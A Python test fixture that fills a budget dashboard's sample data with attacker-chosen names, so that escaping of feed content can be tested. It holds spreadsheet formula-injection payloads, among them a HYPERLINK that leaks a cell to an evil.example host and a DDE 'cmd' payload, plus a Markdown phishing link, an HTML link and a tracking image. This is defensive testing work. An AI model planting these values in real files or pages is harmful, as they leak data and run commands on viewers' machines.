"""The pages' sample city (tests/dashboard/sample_pages.py) with names an attacker chose.

Payees, enterprise and department names come from feeds; whoever fills a feed can write
Markdown, Plotly's HTML subset or spreadsheet formulas into them. Here they do:

  payees      V2501 ``=HYPERLINK(…)``, V2502 ``+cmd|' /C calc'!A0``, V2503 ``@SUM(1+1)``,
              V2505 ``-2+3``, V2506 tab then ``=1+1`` — and V2507 ``-2`` (a number written as
              text: harmless, left as it is)
  enterprise  E01 ``=HYPERLINK(…)`` (supervised by 003)
  departments 002 a Markdown link, 003 an HTML link (Plotly draws ``<a href>`` as a link),
              001001 a Markdown image (every viewer's browser would fetch it)
"""
from __future__ import annotations

from pathlib import Path

from budgetwatch.queries.store import Store
from tests.dashboard import sample_pages

EVIL = "http://evil.example"
PAYEES = {
    "V2501": f'=HYPERLINK("{EVIL}/?leak="&A1,"点此核对")',
    "V2502": "+cmd|' /C calc'!A0",
    "V2503": "@SUM(1+1)",
    "V2505": "-2+3",
    "V2506": "\t=1+1",
}
HARMLESS_PAYEE = ("V2507", "-2")
ENTERPRISE = ("E01", f'=HYPERLINK("{EVIL}/e","市城投集团")')
MARKDOWN_LINK = f"点此核对]({EVIL}/phish) [预算单位"
HTML_LINK = f'<a href="{EVIL}/x">市交通运输局</a>'
MARKDOWN_IMAGE = f"![x]({EVIL}/beacon.png)市第一中学"
DEPARTMENTS = {"002": MARKDOWN_LINK, "003": HTML_LINK, "001001": MARKDOWN_IMAGE}


def build(data_dir: Path) -> Path:
    sample_pages.build(data_dir)
    with Store(data_dir).writer("test") as w:
        for voucher, payee in {**PAYEES, HARMLESS_PAYEE[0]: HARMLESS_PAYEE[1]}.items():
            w.con.execute("UPDATE payments SET payee = ? WHERE voucher_no = ?", [payee, voucher])
        w.con.execute("UPDATE assets_enterprise SET enterprise_name = ? WHERE enterprise_code = ?",
                      [ENTERPRISE[1], ENTERPRISE[0]])
        for code, name in DEPARTMENTS.items():
            w.con.execute("UPDATE departments SET dept_name = ? WHERE dept_code = ?", [name, code])
        w.touch()
    return data_dir
